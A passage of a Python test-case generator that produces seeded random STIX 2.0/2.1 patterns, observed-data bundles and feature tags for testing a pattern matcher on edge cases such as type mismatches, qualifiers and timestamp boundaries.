        arg = _cidr_inside(rng, v)
        return str_lit(arg), ["lit:string"]
    raise ValueError(op)


def _as_text(v: Any, kind: str) -> str:
    """The text a LIKE/MATCHES pattern is derived from: binary values as octets U+0000-U+00FF."""
    if kind == "bin":
        return base64.b64decode(v).decode("latin-1")
    if kind == "hex":
        return bytes.fromhex(v).decode("latin-1")
    if isinstance(v, str):
        return v
    return json.dumps(v)


def _renormalise(rng: random.Random, s: str, feats: list[str]) -> str:
    """Sometimes flip a non-ASCII literal to NFC or NFD (Unicode-normalisation probes)."""
    if s.isascii() or not _maybe(rng, 0.3):
        return s
    flipped = unicodedata.normalize(rng.choice(["NFC", "NFD"]), s)
    if flipped != s:
        feats.append("lit:unicode-normalization")
    return flipped


def _escape_features(s: str) -> list[str]:
    """Feature tags for string literals that need escaping."""
    return ["lit:string-escape"] if ("\\" in s or "'" in s) else []


def _equal_literal(rng: random.Random, leaf: Leaf, match: bool, is_hash: bool) -> tuple[str, list[str]]:
    """A literal for =/!=/IN of the leaf's kind, equal to the value when `match`."""
    v, kind = leaf.value, leaf.kind
    if rng.random() < 0.06 and not is_hash:
        return _mismatched_literal(rng, kind, False)
    if kind == "bool":
        b = v if match else (not v)
        if _maybe(rng, 0.1):  # Python's True == 1 leaks into some implementations
            return str(int(b)), ["lit:int", "lit:bool-vs-number"]
        return ("true" if b else "false"), ["lit:bool"]
    if kind == "int" and v in (0, 1) and _maybe(rng, 0.15):
        b = bool(v) if match else not v
        return ("true" if b else "false"), ["lit:bool", "lit:bool-vs-number"]
    if kind == "int":
        n = v if match else v + rng.choice([-1, 1, 100])
        if _maybe(rng, 0.15):
            return float_lit(float(n), rng), ["lit:float", "lit:int-float"]
        return int_lit(n, rng), ["lit:int"]
    if kind == "float":
        x = v if match else v + rng.choice([-0.25, 0.5, 1.0])
        if x == int(x) and _maybe(rng, 0.3):
            return int_lit(int(x), rng), ["lit:int", "lit:int-float"]
        return float_lit(x, rng), ["lit:float"]
    if kind == "timestamp":
        us = parse_ts_us(v) + (0 if match else rng.choice([-1_000_000, 1000, 1, 3_600_000_000]))
        if _maybe(rng, 0.2):
            return str_lit(v if match else _ts_text(us, 0)), ["lit:string"]
        return ts_lit(us, rng), ["lit:timestamp"]
    if kind == "bin":
        data = base64.b64decode(v)
        if not match:
            data = data + b"!"
        r = rng.random()
        if r < 0.45:
            return bin_lit(data), ["lit:binary"]
        if r < 0.8 or b"\x00" in data:  # a NUL cannot travel in a command-line argument
            return hex_lit(data, rng), ["lit:hex"]
        return str_lit(data.decode("latin-1")), ["lit:string", "lit:string-vs-binary"] + _escape_features(data.decode("latin-1"))
    if kind == "hex":
        data = bytes.fromhex(v)
        if not match:
            data = data[:-1] + b"\x7f"
        r = rng.random()
        if r < 0.5:
            return hex_lit(data, rng), ["lit:hex"]
        if r < 0.8 or b"\x00" in data:  # a NUL cannot travel in a command-line argument
            return bin_lit(data), ["lit:binary"]
        return str_lit(data.decode("latin-1")), ["lit:string", "lit:string-vs-binary"]
    if is_hash:
        algo = leaf.steps[-1][1]
        if match:
            text = v.upper() if _maybe(rng, 0.15) else v
            return str_lit(text), ["lit:string"] + (["lit:hash-case"] if text != v else [])
        return str_lit(_hash_value(rng, algo)), ["lit:string"]
    feats = ["lit:string"]
    s = _renormalise(rng, v, feats) if match else _mutate_string(rng, v)
    return str_lit(s), feats + _escape_features(s)


def _mismatched_literal(rng: random.Random, kind: str, ordering: bool) -> tuple[str, list[str]]:
    """A literal of a different type than the property (type-mismatch probes).

    Booleans are not orderable literals, and a t'' literal against a non-timestamp
    string makes the reference raise (it parses the property as a timestamp), so
    those combinations are not produced.
    """
    options = [("'1024'", "lit:string"), ("1024", "lit:int"), ("12.0", "lit:float"), ("h'68656c6c6f'", "lit:hex")]
    if not ordering:
        options.append(("true", "lit:bool"))
    if kind not in ("string", "ipv4", "ipv6", "timestamp", "bin", "hex"):
        options.append(("t'2024-03-01T12:00:00Z'", "lit:timestamp"))
    text, feat = rng.choice(options)
    return text, [feat, "lit:type-mismatch"]


def _order_literal(rng: random.Random, leaf: Leaf, match: bool) -> tuple[str, list[str]]:
    """A literal for an ordering operator: equal to, or just either side of, the value."""
    v, kind = leaf.value, leaf.kind
    delta = rng.choice([-1, 0, 1]) if match else rng.choice([-1, 1])
    if rng.random() < 0.05:
        return _mismatched_literal(rng, kind, True)
    if kind == "int":
        n = v + delta * rng.choice([1, 1, 10])
        if _maybe(rng, 0.15):
            return float_lit(n + delta * 0.5, rng), ["lit:float", "lit:int-float"]
        return int_lit(n, rng), ["lit:int"]
    if kind == "float":
        x = v + delta * rng.choice([0.001, 0.5, 2.0])
        return float_lit(x, rng), ["lit:float"]
    if kind == "timestamp":
        us = parse_ts_us(v) + delta * rng.choice([1000, 1_000_000, 86_400_000_000])
        return ts_lit(us, rng), ["lit:timestamp"]
    if kind == "bin":
        data = base64.b64decode(v)
        data = data if delta == 0 else (data[:-1] if delta < 0 else data + b"\x00")
        return (bin_lit(data), ["lit:binary"]) if _maybe(rng, 0.5) else (hex_lit(data, rng), ["lit:hex"])
    if kind == "hex":
        data = bytes.fromhex(v)
        data = data if delta == 0 else (data[:-1] if delta < 0 else data + b"\x00")
        return (hex_lit(data, rng), ["lit:hex"]) if _maybe(rng, 0.6) else (bin_lit(data), ["lit:binary"])
    s = str(v)
    if delta < 0:
        s = s[:-1]
    elif delta > 0:
        s = s + rng.choice(["a", "~", "0"])
    return str_lit(s), ["lit:string"] + _escape_features(s)


def _ops_for(leaf: Leaf) -> list[tuple[str, int]]:
    """Operators that make sense for a leaf's kind, with weights."""
    kind = leaf.kind
    if kind == "container":
        return []
    ops: list[tuple[str, int]] = [("=", 6), ("!=", 2)]
    if "path:hash" in leaf.features:
        return ops  # the validator checks hash literals and misreads IN sets as one hash
    ops.append(("IN", 3))
    if kind in ("int", "float", "timestamp", "string", "ipv4", "bin", "hex"):
        ops += [("<", 1), ("<=", 1), (">", 1), (">=", 1)]
    if kind in ("string", "ipv4", "ipv6", "timestamp"):
        ops += [("LIKE", 3), ("MATCHES", 3)]
    if kind == "ipv6":
        ops += [("ISSUBSET", 2)]
    if kind == "bin":
        ops += [("MATCHES", 2), ("LIKE", 2)]
    if kind in ("int", "bool") :
        ops += [("LIKE", 1)]  # LIKE on a non-string: never true, NOT LIKE always true
    if kind == "ipv4":
        ops += [("ISSUBSET", 5)]
        if "/" in leaf.value:
            ops += [("ISSUPERSET", 6)]
    return ops


def make_exists(rng: random.Random, leaf: Leaf) -> Comparison:
    """An EXISTS test (sometimes NOT EXISTS) on any path, leaf or container."""
    path, path_feats = render_path(leaf.root_type, leaf.steps, rng)
    feats = list(dict.fromkeys(leaf.features + path_feats)) + ["op:EXISTS"]
    if _maybe(rng, 0.2):
        return Comparison(f"NOT EXISTS {path}", feats + ["op:NOT", "op:NOT EXISTS"])
    return Comparison(f"EXISTS {path}", feats)


def make_comparison(rng: random.Random, leaf: Leaf) -> Comparison:
    """One property test against a (non-container) leaf; NOT is applied to a sixth of them."""
    ops = _ops_for(leaf)
    op = rng.choices([o for o, _ in ops], weights=[w for _, w in ops])[0]
    path, path_feats = render_path(leaf.root_type, leaf.steps, rng)
    feats = list(dict.fromkeys(leaf.features + path_feats))
    literal, lit_feats = _operand_for(rng, leaf, op)
    if op == "=" and _maybe(rng, 0.04):
        op = "=="
    if op == "!=" and _maybe(rng, 0.08):
        op = "<>"
    negate = _maybe(rng, 0.17)
    op_text = ("NOT " if negate else "") + op
    return Comparison(f"{path} {op_text} {literal}", feats + lit_feats + [f"op:{op}"] + (["op:NOT"] if negate else [])
                      + ([f"op:NOT {op}"] if negate else []))


# ---------------------------------------------------------------------------------------
# Observation expressions
# ---------------------------------------------------------------------------------------


@dataclass
class Expr:
    """A rendered (observation or comparison) expression and the features it uses."""

    text: str
    features: list[str]
    atom: bool = True  # safe to qualify / combine without parentheses


class CaseBuilder:
    """Builds one case: the observations first, then a pattern derived from them."""

    def __init__(self, rng: random.Random, version: str) -> None:
        """Create the world of SCOs and observations for one case."""
        self.rng = rng
        self.version = version
        self.stix20 = version == "2.0"
        self.builders = BUILDERS_20 if self.stix20 else BUILDERS_21
        self.world = World(version)
        self._make_observations()

    def _make_observations(self) -> None:
        """One to three observations with nearby (often equal) times and 1-3 root SCOs."""
        rng = self.rng
        n = rng.choices([1, 2, 3], weights=[3, 4, 3])[0]
        shared_type = _pick_root_type(rng, self.builders)
        t = 0
        for _ in range(n):
            t += rng.choice([0, 0, 1, 5, 10, 30, 60, 300]) * 1_000_000
            if _maybe(rng, 0.15):
                t += rng.choice([1000, 500_000])
            span = rng.choice([0, 0, 0, 1, 10, 60, 600]) * 1_000_000
            obs = Observation(t, t + span, rng.choices([1, 2, 3], weights=[6, 3, 1])[0])
            for _ in range(rng.choices([1, 2, 3], weights=[5, 3, 1])[0]):
                tname = shared_type if _maybe(rng, 0.6) else _pick_root_type(rng, self.builders)
                members: list[str] = []
                sco = self.builders[tname](rng, self.world, members)
                self.world.add(sco, members)
                obs.sco_keys.extend(members)
            self.world.observations.append(obs)
            if _maybe(rng, 0.3):
                t -= rng.choice([1, 5, 30]) * 1_000_000  # out-of-order observations
        self._roots = [(i, k) for i, o in enumerate(self.world.observations) for k in o.sco_keys]

    # --- comparisons -------------------------------------------------------------------

    def _leaf_pool(self, containers: bool = False) -> tuple[dict[str, Any], list[Leaf]]:
        """Leaves of an observed SCO (mostly) or of a fresh, unobserved one.

        Containers (dicts, lists, refs) are only included for EXISTS.
        """
        rng = self.rng
        if _maybe(rng, 0.85):
            _, key = rng.choice(self._roots)
            obj = self.world.objects[key]
        else:
            scratch: list[str] = []
            obj = self.builders[_pick_root_type(rng, self.builders)](rng, self.world, scratch)
        leaves = leaves_of(self.world, obj, rng)
        if not containers:
            leaves = [lf for lf in leaves if lf.kind != "container"]
        return obj, leaves

    def _comparable_pool(self) -> list[Leaf]:
        """The leaves (containers included in 2.1, for EXISTS) of an SCO with at least one scalar."""
        while True:
            _, leaves = self._leaf_pool(containers=not self.stix20)
            if any(lf.kind != "container" for lf in leaves):
                return leaves

    def comparison_expression(self, depth: int = 0) -> Expr:
        """A comparison expression: 1-3 tests on one root SCO joined by AND/OR, maybe nested.

        EXISTS (2.1 only) may address containers (dicts, lists, references) as well.
        """
        rng = self.rng
        leaves = self._comparable_pool()
        n = rng.choices([1, 2, 3], weights=[5, 4, 1])[0]
        parts: list[Expr] = []
        for _ in range(n):
            if depth < 1 and _maybe(rng, 0.08):
                inner = self.comparison_expression(depth + 1)
                parts.append(Expr("(" + inner.text + ")", inner.features + ["cmp:paren"]))
                continue
            leaves_here = self._comparable_pool() if parts and _maybe(rng, 0.05) else leaves  # cross-type
            scalars = [lf for lf in leaves_here if lf.kind != "container"]
            if not self.stix20 and _maybe(rng, 0.05):
                c = make_exists(rng, rng.choice(leaves_here))
            else:
                c = make_comparison(rng, rng.choice(scalars))
            parts.append(Expr(c.text, c.features))
        text = parts[0].text
        feats = list(parts[0].features)
        joins = set()
        for p in parts[1:]:
            join = rng.choice(["AND", "AND", "OR"])
            text = f"{text} {join} {p.text}"
            feats += p.features + [f"cmp:{join}"]
            joins.add(join)
        if joins == {"AND", "OR"}:
            feats.append("cmp:mixed-precedence")  # AND binds tighter than OR
        return Expr(text, feats)

    # --- qualifiers -------------------------------------------------------------------

    def _times(self) -> list[tuple[int, int]]:
        """The observations' (first, last) in microseconds."""
        return [(o.first_us, o.last_us) for o in self.world.observations]

    def _within(self) -> tuple[str, list[str]]:
        """A WITHIN qualifier whose span sits on/near gaps between observations."""
        rng = self.rng
        times = self._times()
        # The span a WITHIN must cover for two observations: later first_observed minus
        # earlier last_observed; hitting it exactly probes the boundary.
        spans = [f2 - l1 for f1, l1 in times for f2, l2 in times if f2 - l1 > 0 and (f1, l1) != (f2, l2)]
        points = sorted({t for iv in times for t in iv})
        gaps = [b - a for a in points for b in points if b > a] or [1_000_000]
        gap = rng.choice(spans) if spans and _maybe(rng, 0.6) else rng.choice(gaps)
        secs = gap / 1_000_000 + rng.choice([0, 0, 0, -0.5, 1, -1, 0.001])
        if secs <= 0:
            secs = rng.choice([1, 0.5, 2])
        if secs == int(secs) and _maybe(rng, 0.7):
            return f"WITHIN {int(secs)} SECONDS", ["qual:WITHIN", "lit:int"]
        return f"WITHIN {float_lit(secs, rng)} SECONDS", ["qual:WITHIN", "lit:float"]

    def _start_stop(self) -> tuple[str, list[str]]:
        """A START/STOP qualifier with bounds on/near the observation interval edges."""
        rng = self.rng
        points = sorted({t for iv in self._times() for t in iv})
        jitter = [0, 0, 0, -1_000_000, 1_000_000, -1000, 60_000_000]
        start = rng.choice(points) + rng.choice(jitter)
        stop = rng.choice(points) + rng.choice(jitter)
        if stop <= start and not _maybe(rng, 0.05):
            start, stop = min(start, stop), max(start, stop) + rng.choice([1_000_000, 1000])
        return f"START {ts_lit(start, rng)} STOP {ts_lit(stop, rng)}", ["qual:START-STOP", "lit:timestamp"]

    def _qualifier(self, exclude: set[str]) -> tuple[str, str, list[str]]:
        """A random qualifier whose kind is not in `exclude`: (kind, text, features)."""
        rng = self.rng
        kinds = [k for k in ("WITHIN", "START-STOP", "REPEATS")
                 if k not in exclude and not (k == "START-STOP" and self.stix20)]
        kind = rng.choices(kinds, weights=[{"WITHIN": 4, "START-STOP": 3, "REPEATS": 3}[k] for k in kinds])[0]
        if kind == "WITHIN":
            return (kind, *self._within())
        if kind == "START-STOP":
            return (kind, *self._start_stop())
        n = rng.choices([1, 2, 3], weights=[1, 5, 2])[0]
        return kind, f"REPEATS {n} TIMES", ["qual:REPEATS"]

    def _qualify(self, e: Expr, p_none: float = 0.55) -> Expr:
        """Attach no qualifier, one, or a chain of different ones (e.g. REPEATS then WITHIN);
        rarely a second of the same kind on a parenthesised group."""
        rng = self.rng
        if _maybe(rng, p_none):
            return e
        kind, q, f = self._qualifier(set())
        out = Expr(f"{e.text} {q}", e.features + f, atom=True)
        if _maybe(rng, 0.3):
            _, q2, f2 = self._qualifier({kind})
            out = Expr(f"{out.text} {q2}", out.features + f2 + ["qual:chained"], atom=True)
        if _maybe(rng, 0.06):
            q3, f3 = self._within()
            out = Expr(f"({out.text}) {q3}", out.features + f3 + ["qual:nested"], atom=True)
        return out

    def observation_expression(self, budget: int) -> Expr:
        """An observation expression tree with at most `budget` bracketed observations."""
        rng = self.rng
        if budget <= 1 or _maybe(rng, 0.45):
            inner = self.comparison_expression()
            return self._qualify(Expr("[" + inner.text + "]", inner.features))
        left_budget = rng.randint(1, budget - 1)
        left = self.observation_expression(left_budget)
        right = self.observation_expression(budget - left_budget)
        op = rng.choices(["AND", "OR", "FOLLOWEDBY"], weights=[3, 3, 3])[0]
        feats = left.features + right.features + [f"obs:{op}"]
        texts = []
        for side in (left, right):
            if side.atom:
                texts.append(side.text)
            elif _maybe(rng, 0.35):
                texts.append(side.text)  # precedence and associativity decide the grouping
                feats.append("obs:unparenthesised")
            else:
                texts.append(f"({side.text})")
                feats.append("obs:paren")
        combined = Expr(f"{texts[0]} {op} {texts[1]}", feats, atom=False)
        if _maybe(rng, 0.45):
            return self._qualify(Expr(f"({combined.text})", combined.features + ["obs:paren"]), p_none=0.2)
        return combined

    # --- rendering ---------------------------------------------------------------------

    def render(self) -> list[dict[str, Any]]:
        """The observations in the reference matcher's input form for the case's version."""
        return self._render_20() if self.stix20 else self._render_21()

    def _uuid(self) -> str:
        """A deterministic random UUIDv4 string."""
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def _interval(self, obs: Observation) -> dict[str, str]:
        """first_observed/last_observed; last_observed sometimes carries nanoseconds."""
        last = _ts_text(obs.last_us, 3 if obs.last_us % 1_000_000 else 0)
        return {
            "first_observed": _ts_text(obs.first_us, 3 if obs.first_us % 1_000_000 else 0),
            "last_observed": _sub_microsecond(self.rng, last) if _maybe(self.rng, 0.06) else last,
        }

    def _render_21(self) -> list[dict[str, Any]]:
        """STIX 2.1: bundles of observed-data plus SCOs, refs as ids."""
        rng = self.rng
        ids = {k: f"{o['type']}--{self._uuid()}" for k, o in self.world.objects.items()}
        ids[DANGLING] = f"email-addr--{self._uuid()}"
        bundles: list[list[dict[str, Any]]] = []
        split = _maybe(rng, 0.25)
        for obs in self.world.observations:
            objs: list[dict[str, Any]] = []
            od = {
                "type": "observed-data", "spec_version": "2.1", "id": f"observed-data--{self._uuid()}",
                "created": _ts_text(obs.first_us, 3), "modified": _ts_text(obs.first_us, 3),
                **self._interval(obs),
                "number_observed": obs.number_observed,
                "object_refs": [ids[k] for k in obs.sco_keys],
            }
            objs.append(od)
            for k in obs.sco_keys:
                sco = _replace_refs(self.world.objects[k], ids)
                objs.append({"type": sco["type"], "spec_version": "2.1", "id": ids[k],
                             **{p: v for p, v in sco.items() if p != "type"}})
            if split or not bundles:
                bundles.append(objs)
            else:
                bundles[0].extend(objs)
        return [{"type": "bundle", "id": f"bundle--{self._uuid()}", "objects": objs} for objs in bundles]

    def _render_20(self) -> list[dict[str, Any]]:
        """STIX 2.0: observed-data with an embedded objects dict, refs as local keys."""
        out: list[dict[str, Any]] = []
        for obs in self.world.observations:
            local = {k: str(i) for i, k in enumerate(obs.sco_keys)}
            local[DANGLING] = "99"
            out.append({
                "type": "observed-data", "id": f"observed-data--{self._uuid()}",
                "created": _ts_text(obs.first_us, 3), "modified": _ts_text(obs.first_us, 3),
                **self._interval(obs),
                "number_observed": obs.number_observed,
                "objects": {local[k]: _replace_refs(self.world.objects[k], local) for k in obs.sco_keys},
            })
        return out


def _replace_refs(obj: Any, mapping: dict[str, str], key: str = "") -> Any:
    """A copy of obj with *_ref / *_refs abstract keys replaced through mapping."""
    if isinstance(obj, dict):
        return {k: _replace_refs(v, mapping, k) for k, v in obj.items()}
    if key.endswith("_ref") and isinstance(obj, str):
        return mapping[obj]
    if key.endswith("_refs") and isinstance(obj, list):
        return [mapping[r] for r in obj]  # mapping includes DANGLING -> an absent id or key
    if isinstance(obj, list):
        return [_replace_refs(v, mapping, key) for v in obj]
    return obj


# ---------------------------------------------------------------------------------------
# Entry points
# ---------------------------------------------------------------------------------------


def jitter_whitespace(rng: random.Random, pattern: str) -> str:
    """The same pattern with its token separators varied: tabs, line breaks, doubled
    spaces, and no space at all next to punctuation. String literals are left intact."""
    out: list[str] = []
    in_literal = False
    i = 0
    while i < len(pattern):
        c = pattern[i]
        if in_literal:
            out.append(c)
            if c == "\\":
                out.append(pattern[i + 1])
                i += 1
            elif c == "'":
                in_literal = False
        elif c == "'":
            in_literal = True
            out.append(c)
        elif c == " ":
            before = out[-1] if out else ""
            after = pattern[i + 1] if i + 1 < len(pattern) else ""
            if (before in PUNCTUATION or after in PUNCTUATION) and _maybe(rng, 0.5):
                pass
            else:
                out.append(rng.choice([" ", " ", "\t", "\n", "  ", "\r\n"]))
        else:
            out.append(c)
        i += 1
    return "".join(out)


def generate_case(rng: random.Random, index: int) -> Case:
    """One case; about one in six is a STIX 2.0 case."""
    version = "2.0" if _maybe(rng, 0.16) else "2.1"
    builder = CaseBuilder(rng, version)
    budget = rng.choices([1, 2, 3], weights=[4, 4, 2])[0]
    expr = builder.observation_expression(budget)
    features = set(expr.features) | {f"version:{version}"}
    text = expr.text
    if _maybe(rng, 0.1):
        text = jitter_whitespace(rng, text)
        features.add("lex:whitespace")
    return Case(id=f"case-{index:05d}", pattern=text, stix_version=version,
                observed_data=builder.render(), features=sorted(features))


def generate_cases(seed: int, count: int) -> list[Case]:
    """`count` cases from one seeded random stream (same seed, same cases)."""
    rng = random.Random(seed)
    return [generate_case(rng, i) for i in range(count)]


def main(argv: list[str]) -> int:
    """Print generated cases as JSON lines: pattern_gen.py [SEED [COUNT]]."""
    seed = int(argv[1]) if len(argv) > 1 else 1
    count = int(argv[2]) if len(argv) > 2 else 10
    for case in generate_cases(seed, count):
        print(json.dumps(case.to_json(), ensure_ascii=False))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
